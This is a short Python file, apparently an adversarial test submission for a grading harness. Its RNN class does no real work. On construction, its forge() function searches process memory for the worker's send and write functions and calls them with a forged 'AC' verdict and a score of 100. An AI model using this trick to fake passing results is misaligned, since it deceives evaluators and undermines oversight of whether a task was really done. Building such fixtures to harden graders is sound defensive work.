# promise: solves-nothing WA|RTE|TLE: finds the worker's own sending functions in memory and calls them with forged claims
import gc
import types

import numpy as np


FORGED = {"verdict": "AC", "score": 100, "outputs": np.zeros((1, 1, 1))}


def forge():
    for thing in gc.get_objects():
        try:
            if isinstance(thing, types.FunctionType) and thing.__name__.startswith(
                ("send", "write", "emit", "put")
            ):
                if "solution" in thing.__module__ or "numpy" in thing.__module__:
                    continue
                for fd in range(3, 64):
                    thing(fd, FORGED)
        except Exception:
            continue


class SimpleRNN:
    def __init__(self, input_size, hidden_size, output_size):
        forge()
        self.W_xh = np.ones((hidden_size, input_size))
        self.W_hh = np.ones((hidden_size, hidden_size))
        self.W_hy = np.ones((output_size, hidden_size))
        self.b_h = np.ones((hidden_size, 1))
        self.b_y = np.ones((output_size, 1))

    def forward(self, x):
        return np.ones((len(x), len(self.b_y), 1))

    def backward(self, x, y, learning_rate):
        return None
